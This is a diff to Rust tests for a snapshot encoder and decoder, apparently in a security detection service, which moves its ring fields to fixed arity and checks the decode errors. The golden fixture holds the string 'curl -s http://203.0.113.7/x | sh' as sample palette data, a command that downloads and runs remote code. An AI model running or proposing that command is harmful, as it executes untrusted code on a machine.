@@ -48,9 +48,20 @@ fn addr(kind: u8, a: &str) -> SnapKey {
     }
 }
 
+/// A full ring: `head`'s slots, then empty slots up to the ring's arity.
+fn ring<T: Copy, const N: usize>(head: &[T], empty: T) -> [T; N] {
+    let mut out = [empty; N];
+    out[..head.len()].copy_from_slice(head);
+    out
+}
+
+/// An empty step or dedup slot.
+const NO_STEP: (SimTime, u16) = (SimTime::EPOCH, u16::MAX);
+
 /// A small snapshot touching every wire shape: a tagger, a correlator
-/// with a campaign and links, a palette join key, a `null` ring slot, an
-/// empty array and a user name that needs escaping. It is also what the
+/// with a campaign and links, a palette join key, `null` ring slots, an
+/// empty array and a user name that needs escaping. Rings have their full
+/// arity; slots past the ones the test pins are empty. It is also what the
 /// v1 fixture decodes to: that document's universe holds `alice` and the
 /// odd user, and `mallory` and the palette payload are appended in the
 /// order the document first names them.
@@ -92,20 +103,23 @@ fn golden_snapshot() -> ServiceSnapshot {
             entities: vec![
                 EntityStateSnapshot {
                     entity: alice,
-                    alpha: vec![0.5, 0.25, 1.0, 1e-300, 0.1 + 0.2],
+                    alpha: [0.5, 0.25, 1.0, 1e-300, 0.1 + 0.2, 0.0],
                     steps: 17,
                     detected: true,
                     last_ts: t(3_000),
-                    recent: vec![(t(2_990), 3), (SimTime::from_nanos(0), u16::MAX)],
+                    recent: ring(
+                        &[(t(2_990), 3), (SimTime::from_nanos(0), u16::MAX)],
+                        NO_STEP,
+                    ),
                     recent_head: 1,
                 },
                 EntityStateSnapshot {
                     entity: odd,
-                    alpha: vec![0.0, 1.0],
+                    alpha: [0.0, 1.0, 0.0, 0.0, 0.0, 0.0],
                     steps: 2,
                     detected: false,
                     last_ts: t(95),
-                    recent: Vec::new(),
+                    recent: [NO_STEP; 8],
                     recent_head: 0,
                 },
             ],
@@ -122,7 +136,7 @@ fn golden_snapshot() -> ServiceSnapshot {
                     last_ts: t(2_900),
                     seen: 6,
                     promoted: false,
-                    steps: vec![(t(2_900), 7)],
+                    steps: ring(&[(t(2_900), 7)], NO_STEP),
                     steps_head: 0,
                 },
                 CorrelatorEntitySnapshot {
@@ -132,7 +146,10 @@ fn golden_snapshot() -> ServiceSnapshot {
                     last_ts: t(3_000),
                     seen: 17,
                     promoted: true,
-                    steps: vec![(t(2_990), 3), (SimTime::from_nanos(1), u16::MAX)],
+                    steps: ring(
+                        &[(t(2_990), 3), (SimTime::from_nanos(1), u16::MAX)],
+                        NO_STEP,
+                    ),
                     steps_head: 1,
                 },
             ],
@@ -140,13 +157,13 @@ fn golden_snapshot() -> ServiceSnapshot {
                 JoinKeySnapshot {
                     kind: LinkKind::Victim,
                     id: 0x0A00_0005,
-                    slots: vec![Some((alice, t(2_990))), None],
+                    slots: ring(&[Some((alice, t(2_990))), None], None),
                     head: 1,
                 },
                 JoinKeySnapshot {
                     kind: LinkKind::Palette,
                     id: palette,
-                    slots: vec![Some((odd, t(95)))],
+                    slots: ring(&[Some((odd, t(95)))], None),
                     head: 0,
                 },
             ],
@@ -180,12 +197,14 @@ fn golden_snapshot() -> ServiceSnapshot {
             tagger_confirmations: 2,
             entities_evicted: 0,
         }),
-        sym_universe: vec![
-            "alice".to_string(),
-            odd_user.to_string(),
-            "mallory".to_string(),
-            "curl -s http://203.0.113.7/x | sh".to_string(),
-        ],
+        sym_universe: [
+            "alice",
+            odd_user,
+            "mallory",
+            "curl -s http://203.0.113.7/x | sh",
+        ]
+        .into_iter()
+        .collect(),
     }
 }
 
@@ -263,9 +282,9 @@ fn encoder_agrees_with_the_serde_json_compact_printer() {
 
 #[test]
 fn floats_round_trip_bit_for_bit() {
-    let values = [-0.0, 5e-324, f64::MAX, 1.0, 0.1 + 0.2];
+    let values = [-0.0, 5e-324, f64::MAX, 1.0, 0.1 + 0.2, f64::MIN_POSITIVE];
     let mut snap = golden_snapshot();
-    snap.tagger.as_mut().unwrap().entities[0].alpha = values.to_vec();
+    snap.tagger.as_mut().unwrap().entities[0].alpha = values;
     for &v in &values {
         let correlator = snap.correlator.as_mut().unwrap();
         correlator.entities[0].mass = v;
@@ -364,6 +383,22 @@ fn replace(text: &str, from: &str, to: &str) -> String {
     text.replacen(from, to, 1)
 }
 
+#[test]
+fn ring_arity_errors_name_the_field_and_the_count() {
+    let short = replace(GOLDEN_V2, "\"alpha\":[0.5,0.25,1,", "\"alpha\":[0.25,1,");
+    let err = ServiceSnapshot::from_json(&short).unwrap_err();
+    assert!(
+        err.contains("`alpha`") && err.ends_with("5 items, expected 6"),
+        "{err}"
+    );
+    let long = replace(GOLDEN_V2, "\"slots\":[", "\"slots\":[null,");
+    let err = ServiceSnapshot::from_json(&long).unwrap_err();
+    assert!(
+        err.contains("`slots`") && err.ends_with("more than 8 items"),
+        "{err}"
+    );
+}
+
 fn assert_errors(cases: Vec<(String, &str)>) {
     for (text, field) in cases {
         let err = ServiceSnapshot::from_json(&text).unwrap_err();
@@ -388,6 +423,36 @@ fn decode_errors_name_the_field() {
         (v2("\"kind\":\"victim\"", "\"kind\":\"lateral\""), "kind"),
         (v2("\"victim\"]", "\"lateral\"]"), "links"),
         (v2("65535]", "65535,1]"), "recent"),
+        // Rings have the arity of their field's type: one item short or
+        // one too many is an error.
+        (v2("\"alpha\":[0.5,0.25,1,", "\"alpha\":[0.25,1,"), "alpha"),
+        (
+            v2("\"alpha\":[0,1,0,0,0,0]", "\"alpha\":[0,1,0,0,0,0,0]"),
+            "alpha",
+        ),
+        (
+            v2("\"recent\":[[2990000000000,3],", "\"recent\":["),
+            "recent",
+        ),
+        (v2("\"steps\":[[2900000000000,7],", "\"steps\":["), "steps"),
+        (
+            v2(
+                "\"steps\":[[2990000000000,3],",
+                "\"steps\":[[2990000000000,3],[0,65535],",
+            ),
+            "steps",
+        ),
+        (
+            v2(
+                "\"slots\":[[[1,0],2990000000000],null,",
+                "\"slots\":[[[1,0],2990000000000],null,null,",
+            ),
+            "slots",
+        ),
+        (
+            v2("\"slots\":[[[1,1],95000000000],", "\"slots\":["),
+            "slots",
+        ),
         (v2("\"entity\":[1,0]", "\"entity\":[1]"), "entity"),
         (v2("\"entity\":[1,0]", "\"entity\":[256,0]"), "entity"),
         (
@@ -431,6 +496,35 @@ fn decode_errors_name_the_field() {
             "entity",
         ),
         (v1("\"palette\": null,\n", ""), "palette"),
+        (
+            v1("\"alpha\": [\n          0.5,\n", "\"alpha\": [\n"),
+            "alpha",
+        ),
+        (
+            v1(
+                "\"alpha\": [\n          0.5,",
+                "\"alpha\": [\n          0.5,\n          0.5,",
+            ),
+            "alpha",
+        ),
+        (
+            v1(
+                "\"recent\": [\n          [\n            2990000000000,\n            3\n          ],\n",
+                "\"recent\": [\n",
+            ),
+            "recent",
+        ),
+        (
+            v1(
+                "\"steps\": [\n          [\n            2900000000000,\n            7\n          ],\n",
+                "\"steps\": [\n",
+            ),
+            "steps",
+        ),
+        (
+            v1("\"slots\": [\n", "\"slots\": [\n          null,\n"),
+            "slots",
+        ),
         (
             v1(
                 "\"palette\": \"curl -s http://203.0.113.7/x | sh\"",
